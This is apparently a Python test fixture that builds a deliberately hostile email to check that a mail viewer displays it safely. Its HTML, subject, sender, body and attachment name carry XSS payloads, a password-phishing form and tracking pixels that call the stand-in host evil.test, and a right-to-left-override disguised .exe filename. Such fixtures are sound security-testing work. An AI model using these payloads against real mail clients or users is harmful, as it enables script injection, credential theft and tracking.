"""A message that attacks whoever looks at it."""

from dataclasses import replace

from tests.e2e import mails
from tests.support.attachments import Attachment
from tests.support.story import Mail

HTML = """<html><head><title>pwned</title><base href="http://evil.test/"><meta http-equiv="refresh" content="0;url=http://evil.test/">
<style>@import url(http://evil.test/x.css); body{background:url(http://evil.test/bg.png)}</style></head>
<body onload="alert(1)"><h2>ORDER of the court</h2><script>alert(1); top.document.title = 'pwned'</script>
<img src="http://evil.test/pixel.png" onerror="alert(1)"><svg onload="alert(1)"><a xlink:href="javascript:alert(1)">x</a></svg>
<p style="position:fixed;top:0;left:0;width:100vw;height:100vh">You must comply within the hour.</p>
<form action="http://evil.test/"><input name="password" autofocus><button>Sign in</button></form>
<iframe src="http://evil.test/"></iframe><a href="http://evil.test/" target="_top">Upload the data here</a>
<video src="http://evil.test/v.mp4" autoplay></video><object data="http://evil.test/o"></object></body></html>"""


def hostile() -> Mail:
    """Scripts, pixels and forms in the subject, the body, the HTML and a file's name."""
    mail = mails.lookalike()
    attack = "</pre></textarea></title><script>alert(1)</script><img src=http://evil.test/p.png onerror=alert(1)>"
    return replace(
        mail,
        subject="Order 9 <script>alert(1)</script> \u202egnp.exe",
        author=f'"<img src=x onerror=alert(1)>" <t.webb@{mails.LOOKALIKE}>',
        body=mail.body + f"\n{attack}\n" + "x" * 400 + "\n",
        html=HTML,
        parts=(Attachment('order"><script>alert(1)<script>.html', "text/html", HTML.encode()),),
    )
